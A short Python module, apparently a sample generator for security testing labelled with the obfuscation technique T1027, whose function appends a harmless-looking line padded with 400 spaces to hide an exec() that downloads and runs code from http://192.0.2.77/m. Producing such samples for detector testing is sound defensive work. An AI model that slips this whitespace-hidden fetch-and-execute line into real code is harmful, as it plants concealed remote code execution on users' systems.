# SPDX-License-Identifier: Apache-2.0
"""Code far to the right of a harmless line."""

ATTACK = "T1027"
LANGUAGE = "python"


def poison(layer):
    layer.append("__all_loaded__ = True" + " " * 400 + ";exec(__import__('urllib.request',fromlist=['x']).urlopen("
                 "'http://192.0.2.77/m').read())\n")
